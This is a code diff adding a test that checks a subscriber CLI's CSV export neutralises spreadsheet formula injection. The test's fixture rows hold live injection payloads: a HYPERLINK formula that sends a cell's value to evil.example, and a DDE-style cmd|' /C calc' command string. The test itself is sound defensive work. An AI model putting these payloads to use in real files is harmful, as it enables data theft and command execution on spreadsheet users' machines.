@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import asyncio
+import csv
 import json
 from datetime import UTC, datetime
 from pathlib import Path
@@ -188,6 +189,41 @@ def test_export_round_trips_through_import(env: str) -> None:
     assert "3 added" in result.output
     assert run("subscribers", "export").output == exported.output
     assert "3 unchanged" in run("subscribers", "import", str(path)).output
+
+
+FORMULAS = (
+    HEADER,
+    '=2+5@example.com,"=HYPERLINK(""http://evil.example/?x=""&A2,""Click"")",en,,,',
+    "+cmd@example.com,@SUM(1+1)*cmd|' /C calc'!A0,en,,,",
+    "-1@example.com,-2+3,en,,,",
+    "plain@example.com,O'Brien,en,,,",
+)
+
+
+def test_export_is_spreadsheet_safe_unless_raw(env: str) -> None:
+    result = run("subscribers", "import", str(write("formulas.csv", *FORMULAS)))
+    assert result.exit_code == 0, result.output
+    safe = run("subscribers", "export").output.splitlines()[1:]
+    cells = [line.split(",", 1) for line in sorted(safe)]
+    assert [email for email, _ in cells] == [
+        "'+cmd@example.com",
+        "'-1@example.com",
+        "'=2+5@example.com",
+        "plain@example.com",
+    ]
+    for line in safe:  # no cell a spreadsheet would evaluate
+        for cell in next(csv.reader([line])):
+            assert not cell.startswith(("=", "+", "-", "@")), line
+    assert "O'Brien" in "\n".join(safe)  # other cells as they are
+    raw = run("subscribers", "export", "--raw").output
+    assert "\n=2+5@example.com," in raw
+    assert "@SUM(1+1)" in raw
+    # the guarded file imports back to the same values
+    for email in ("=2+5@example.com", "+cmd@example.com", "-1@example.com", "plain@example.com"):
+        assert run("subscribers", "remove", "--", email).exit_code == 0
+    path = write("safe.csv", HEADER, *safe)
+    assert "4 added" in run("subscribers", "import", str(path)).output
+    assert run("subscribers", "export", "--raw").output == raw
 
 
 def test_export_leaves_out_people_who_left_unless_asked(env: str) -> None:
